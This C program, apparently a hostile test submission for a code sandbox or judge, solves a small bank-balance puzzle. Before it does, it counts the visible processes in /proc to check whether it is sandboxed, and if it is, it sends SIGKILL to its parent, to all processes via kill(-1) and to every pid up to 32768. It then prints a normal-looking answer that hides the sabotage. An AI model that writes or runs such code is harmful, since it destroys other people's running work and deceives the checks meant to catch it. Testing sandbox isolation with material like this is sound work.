/*
 * Hostile: kills every process that it may signal, then answers as if nothing had happened.
 * Where many processes are in sight it is not in a sandbox of its own, and does nothing.
 */
#include <ctype.h>
#include <dirent.h>
#include <signal.h>
#include <stdio.h>
#include <sys/types.h>
#include <unistd.h>

enum { MOST_IN_SANDBOX = 8, HIGHEST_PID = 32768 };

static int processes_in_sight(void)
{
    DIR *proc = opendir("/proc");
    if (!proc)
        return MOST_IN_SANDBOX + 1;
    int count = 0;
    for (struct dirent *entry; (entry = readdir(proc));)
        count += isdigit((unsigned char)entry->d_name[0]) != 0;
    closedir(proc);
    return count;
}

static void kill_everyone(void)
{
    if (getppid() > 0) /* 0: the parent is outside, and kill(0) would be for our own group */
        kill(getppid(), SIGKILL);
    kill(-1, SIGKILL); /* all but the caller and pid 1 */
    for (pid_t pid = 1; pid <= HIGHEST_PID; pid++)
        if (pid != getpid())
            kill(pid, SIGKILL);
}

int main(void)
{
    if (processes_in_sight() > MOST_IN_SANDBOX)
        return 1;
    kill_everyone();
    int days, amount;
    long long balance = 0;
    if (scanf("%d", &days) != 1)
        return 1;
    for (int day = 1; day <= days; day++) {
        if (scanf("%d", &amount) != 1)
            return 1;
        balance += amount;
        if (balance < 0) {
            printf("overdrawn %d\n", day);
            return 0;
        }
    }
    printf("solvent %lld\n", balance);
}
